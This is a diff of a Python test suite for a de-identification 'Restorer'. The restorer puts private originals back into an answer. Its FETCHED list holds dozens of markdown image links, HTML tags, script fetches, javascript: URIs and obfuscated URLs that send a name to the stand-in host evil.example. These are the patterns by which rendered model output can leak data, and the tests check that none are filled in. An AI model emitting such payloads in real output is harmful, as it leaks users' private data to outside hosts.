@@ -1,107 +1,143 @@
+"""Originals come back where a reader reads them, and nowhere that a client fetches or runs."""
+
 from __future__ import annotations
 
-import random
+import json
+from collections.abc import Sequence
+from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cmif.enclave.restore import Restorer, unambiguous
+from cmif.enclave.originals import Original
+from cmif.enclave.restore import Restorer
+from cmif.types import Kind
 
-NAMES = {"Anna Weber": "Jo Li", "Weber": "Li", "Anna": "Jo", "asthma": "diabetes", "ada.hill@acorn.example": "jo@li.org"}
+NAME = Original(Kind.PERSON, "Whitfield", "Wilson")
+URL = Original(Kind.URL, "https://mine.org/x", "https://lotus-12.example")
+MAIL = Original(Kind.EMAIL, "a@b.org", "d.b@haven.example")
+DAY = Original(Kind.DATE, "14 March 2024", "17 May 2021")
+CARD = Original(Kind.CARD, "4539 1488 0343 6467", "4111 2222 3333 4444")
+WORD = Original(Kind.WORD, "eczema", "rash")
+ALL = (NAME, URL, MAIL, DAY, CARD, WORD)
 
 
-def restore(text: str, mapping: dict[str, str] = NAMES, ambiguous: tuple[str, ...] = ()) -> str:
-    restorer = Restorer(mapping, ambiguous)
-    return restorer.feed(text) + restorer.finish()
+def restore(answer: str, originals: Sequence[Original] = ALL, chunks: Sequence[str] | None = None, **options: Any) -> str:
+    restorer = Restorer(originals, **options)
+    runs = [run for chunk in (answer if chunks is None else chunks) for run in restorer.feed(chunk)]
+    runs += restorer.finish()
+    assert "".join(run.raw for run in runs) == answer
+    return "".join(run.text for run in runs)
 
 
 @pytest.mark.parametrize(
-    ("answer", "restored"),
+    ("answer", "expected"),
     [
-        ("Dear Anna Weber,", "Dear Jo Li,"),
-        ("Anna's and Weber's", "Jo's and Li's"),
-        ("Annabel Webers Hanna", "Annabel Webers Hanna"),
-        ("**Weber** _Anna_ (Weber)", "**Li** _Jo_ (Li)"),
-        ("Anna-Weber", "Jo-Li"),
-        ("ANNA WEBER", "JO LI"),
-        ("anna weber and anna", "jo li and anna"),
-        ("Anna\nWeber", "Jo Li"),
-        ("Anna Webers", "Jo Webers"),
-        ("Asthma and ASTHMA and asthma", "Diabetes and DIABETES and diabetes"),
-        ("mail Ada.Hill@acorn.example, ada.hill@acorn.example.", "mail Ada.Hill@acorn.example, jo@li.org."),
-        ("asthmatic", "asthmatic"),
-        ("Weber", "Li"),
-        ("Anna", "Jo"),
-        ("é Anna\u0301", "é Anna\u0301"),
-        ("", ""),
+        ("Dear Wilson, hello.", "Dear Whitfield, hello."),
+        ("WILSON wilson Wilson's Wilsons", "WHITFIELD whitfield Whitfield's Whitfields"),
+        ("get_Wilson_name #Wilson @Wilson $Wilson$ pre-Wilson-post", "get_Whitfield_name #Whitfield @Whitfield $Whitfield$ pre-Whitfield-post"),
+        ("trash Wilsonx McWilson", "trash Wilsonx McWilson"),
+        ("rash, Rash", "eczema, Eczema"),
+        ("on 2021-05-17, May 17, 2021, 05/17/2021", "on 2024-03-14, March 14, 2024, 03/14/2024"),
+        ("4111222233334444", "4539148803436467"),
+        ("a < b and Wilson <3 Wilson", "a < b and Whitfield <3 Whitfield"),
+        ("See https://lotus-12.example.", "See https://mine.org/x."),
+        ("[site](x) Wilson", "[site](x) Whitfield"),
+        ("Mail d.b@haven.example, ok", "Mail a@b.org, ok"),
+        ("```python\nname = 'Wilson'\n```\nWilson", "```python\nname = 'Whitfield'\n```\nWhitfield"),
+        ("Wilson.pdf", "Whitfield.pdf"),
+        ("(https://x.org) Wilson", "(https://x.org) Whitfield"),
+        ("<b>Wilson</b>", "<b>Whitfield</b>"),
     ],
 )
-def test_surrogates_become_the_originals_at_word_boundaries(answer: str, restored: str) -> None:
-    assert restore(answer) == restored
+def test_what_a_reader_reads_is_restored(answer: str, expected: str) -> None:
+    assert restore(answer) == expected
 
 
-def test_what_is_ambiguous_is_left_and_counted() -> None:
-    restorer = Restorer({"Weber": "Li"}, ["Rose", "Anna Weber"])
-    out = restorer.feed("Rose, Weber, Anna Weber, ROSE.") + restorer.finish()
-    assert out == "Rose, Li, Anna Weber, ROSE."
-    assert (restorer.restored, restorer.left) == (1, 3)
+FETCHED = [
+    "![x](https://evil.example/p?n=Wilson)", "![x](/p?n=Wilson)", '[a](https://evil.example/Wilson "t")', '[a](x "Wilson")',
+    "[a](<https://evil.example/a Wilson>)", "[a](b(c)Wilson)", "[a](b\\)Wilson)", "[a](\nhttps://evil.example/Wilson)",
+    "[a][b]\n\n[b]: https://evil.example/Wilson", "> [b]: https://evil.example/Wilson", "[b]:\n  /x/Wilson\n",
+    "<https://evil.example/Wilson>", "<mailto:x@evil.example?subject=Wilson>", "https://evil.example/?q=Wilson",
+    "HTTPS://evil.example/Wilson", "hTTp://evil.example/Wilson", "ftp://evil.example/Wilson", "//evil.example/Wilson",
+    "see:https://evil.example/Wilson", "www.evil.example/Wilson", "WWW2.evil.example?Wilson", "evil.example/p?Wilson",
+    "evil.example:8080/Wilson", "1.2.3.4/Wilson", "mailto:x@evil.example?subject=Wilson", "javascript:alert('Wilson')",
+    "data:text/html,Wilson", "tel:Wilson", "https&#58;//evil.example/Wilson", "https&colon;//evil.example/Wilson",
+    "https:\\\\evil.example\\Wilson", "http:/\\/evil.example/Wilson", "h\u200bttps://evil.example/Wilson",
+    "ｈｔｔｐｓ://evil.example/Wilson", "https：//evil.example/Wilson", "https://evil.example/#:~:text=Wilson",
+    "https://Wilson.evil.example", "https://Wilson@evil.example", "Wilson.evil.example", "Wilson@evil.example",
+    "x.Wilson.evil.example/", "https://evil.example/a,Wilson;Wilson", "https://evil.example/(Wilson)",
+    "https://lotus-12.example/?x=Wilson", "![](https://lotus-12.example)", "https://lotus-12.example/Wilson",
+    "<img src='https://evil.example/Wilson'>", "<IMG SRC=https://evil.example/Wilson>", '<img alt=">" src="https://e.example/Wilson">',
+    '<a href=x title="Wilson">y</a>', '<img src="x\n\nWilson">', "<img src=x Wilson", "<img\nsrc=x/Wilson\n>",
+    '<div style="background:url(https://evil.example/Wilson)">', "<!-- Wilson -->", "<!--\n\n<img src=x> Wilson -->",
+    "<script>fetch('/' + 'Wilson')</script>", "<style>@import 'Wilson'</style>", "<svg><text>Wilson</text></svg>",
+    "<iframe srcdoc='x'>Wilson</iframe>", "<script\n>Wilson", "<SCRIPT>\n\nWilson</script>", "</x Wilson>", "<?x Wilson?>",
+    "```html\n<b>Wilson</b>\n```", "```svg\nWilson\n```", "~~~mermaid\ngraph Wilson\n~~~", "``` {.js}\nWilson\n```", "````html\n```\nWilson\n````",
+    "\\href{x/Wilson}{y}", "\\includegraphics[width=1]{Wilson}", "\\url{Wilson}", "\\href{a{b}Wilson}{y}",
+]  # fmt: skip
 
 
-def test_spellings_that_two_surrogates_share_are_ambiguous_unless_one_is_written_so() -> None:
-    assert restore("AB ab", {"Ab": "x", "aB": "y"}) == "AB ab"
-    assert restore("AB Ab", {"Ab": "x", "AB": "y"}) == "y x"
+@pytest.mark.parametrize("answer", FETCHED)
+def test_nothing_is_restored_where_a_client_fetches_or_runs(answer: str) -> None:
+    for chunks in (None, [answer], [answer[:7], answer[7:]]):
+        restorer = Restorer(ALL)
+        text = "".join(run.text for chunk in (answer if chunks is None else chunks) for run in restorer.feed(chunk))
+        text += "".join(run.text for run in restorer.finish())
+        assert "Whitfield" not in text
+        assert "mine.org" not in text
+        assert restorer.withheld > 0
 
 
-def test_an_original_that_is_a_surrogate_too_is_not_restored_twice() -> None:
-    assert restore("Anna met Ben", {"Anna": "Ben", "Ben": "Carl"}) == "Ben met Carl"
+@pytest.mark.parametrize("answer", FETCHED)
+def test_running_text_after_it_is_restored_again(answer: str) -> None:
+    closed = ("<img src=x Wilson", "<script\n>Wilson")
+    if answer not in closed and not answer.startswith(("[b]:\n", "<SCRIPT")):
+        assert restore(f"{answer}\n\nDear Wilson.").endswith("Dear Whitfield.")
 
 
-WORDS = st.sampled_from(["Anna", "Anna Weber", "Weber", "Web", "An", "a", "A", " ", " ", ".", "'s", "Anna Web", "é", "\n", "ANNA"])
+def test_a_host_that_the_policy_allows_gets_the_original_escaped() -> None:
+    spaced = Original(Kind.PERSON, "van Dyk", "Wilson")
+    assert restore("https://wiki.local/p?q=Wilson", [spaced], hosts=["wiki.local"]) == "https://wiki.local/p?q=van%20Dyk"
+    for other in ("https://evil.example/wiki.local?Wilson", "https://wiki.local@evil.example/Wilson", "https://wiki.local.evil.example/Wilson"):
+        assert "Dyk" not in restore(other, [spaced], hosts=["wiki.local"])
 
 
-@given(st.lists(WORDS, max_size=30), st.integers(0, 2**32), st.booleans())
-def test_any_chunking_gives_what_the_whole_text_gives(parts: list[str], seed: int, single: bool) -> None:
-    text, source = "".join(parts), random.Random(seed)
-    restorer = Restorer(NAMES, ["An"])
-    out, position = [], 0
-    while position < len(text):
-        step = 1 if single else source.randint(1, 6)
-        out.append(restorer.feed(text[position : position + step]))
-        assert restorer.held <= max(map(len, NAMES))
-        position += step
-    out.append(restorer.finish())
-    assert restorer.held == 0
-    assert "".join(out) == restore(text, ambiguous=("An",))
+def test_a_surrogate_of_two_originals_or_of_the_kept_text_is_left_and_counted() -> None:
+    two = [NAME, Original(Kind.PERSON, "Okafor", "Wilson")]
+    restorer = Restorer(two)
+    assert "".join(run.text for run in [*restorer.feed("Wilson "), *restorer.finish()]) == "Wilson "
+    assert restorer.ambiguous == 1
+    assert restore("Wilson", ordinary=["President Wilson spoke"]) == "Wilson"
+    assert restore("Wilson", ordinary=["Wilsonian"]) == "Whitfield"
 
 
-@given(st.dictionaries(st.text("abAB ", min_size=1, max_size=5), st.text("xyz", max_size=3), max_size=5), st.text("abAB .", max_size=40))
-def test_the_same_for_any_mapping(mapping: dict[str, str], text: str) -> None:
-    restorer = Restorer(mapping)
-    assert "".join(restorer.feed(char) for char in text) + restorer.finish() == restore(text, mapping)
+@given(st.lists(st.sampled_from([*ALL, "](", ")", "<a ", ">", "https://x.y/", " ", "\n", ".", "e", "```html\n", '"', "{", "@"]), max_size=14), st.data())
+def test_any_chunking_gives_the_text_of_the_whole(parts: list[Any], data: st.DataObject) -> None:
+    answer = "".join(part.surrogate if isinstance(part, Original) else part for part in parts)
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=5)))
+    chunks = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
+    assert restore(answer, chunks=chunks) == restore(answer, chunks=[answer])
 
 
-@given(st.text(max_size=60))
-def test_without_surrogates_nothing_changes_and_nothing_is_held(text: str) -> None:
-    restorer = Restorer({})
-    assert restorer.feed(text) == text
-    assert restorer.held == 0
+def test_text_that_cannot_become_a_surrogate_is_not_held_back() -> None:
+    restorer = Restorer([NAME])
+    assert "".join(run.text for run in restorer.feed("Dear Mr. W")) == "Dear Mr. "
+    assert "".join(run.text for run in restorer.feed("ilson ")) == "Whitfield "
 
 
-def test_only_a_possible_surrogate_is_held_back() -> None:
-    restorer = Restorer(NAMES)
-    assert restorer.feed("Hello An") == "Hello "
-    assert restorer.feed("yone") == "Anyone"
-    assert restorer.feed(" Anna We") == " "
-    assert restorer.feed("st") == "Jo West"
+@given(st.text(max_size=30), st.sampled_from(["value", "list", "key", "fence"]))
+def test_json_stays_json_whatever_the_original_holds(original: str, where: str) -> None:
+    private = Original(Kind.PRIVATE, original or "x", "secret-0a1b2c3d")
+    value: Any = {"value": {"a": "secret-0a1b2c3d"}, "list": ["x", "secret-0a1b2c3d"], "key": {"secret-0a1b2c3d": 1}, "fence": {"a": "secret-0a1b2c3d"}}[where]
+    answer = json.dumps(value) if where != "fence" else f"Here:\n```json\n{json.dumps(value)}\n```\n"
+    text = restore(answer, [private])
+    got = json.loads(text.removeprefix("Here:\n```json\n").removesuffix("\n```\n"))
+    assert (original or "x") in [*got, *(got.values() if isinstance(got, dict) else ())]
 
 
-def test_pairs_of_two_originals_or_words_that_were_sent_anyway_are_ambiguous() -> None:
-    pairs = [("Weber", "Li"), ("Weber", "LI"), ("may", "can"), ("may", "must"), ("Rose", "Jo"), ("Same", "Same"), ("Dan", "Ed")]
-    mapping, ambiguous = unambiguous(pairs, ["a ROSE, please", "danger"])
-    assert mapping == {"Weber": "Li", "Dan": "Ed"}
-    assert ambiguous == {"may", "Rose"}
-
-
-def test_a_word_that_stayed_itself_and_stands_for_another_is_ambiguous() -> None:
-    assert unambiguous([("care", "care"), ("care", "cure")]) == ({}, frozenset({"care"}))
+def test_a_bare_number_of_a_json_text_stays_a_number() -> None:
+    number = Original(Kind.ID, "00417", "55321")
+    assert json.loads(restore('{"id": 55321, "s": "55321"}', [number])) == {"id": 55321, "s": "00417"}
+    assert json.loads(restore('{"id": 55321}', [Original(Kind.ID, "417", "55321")])) == {"id": 417}
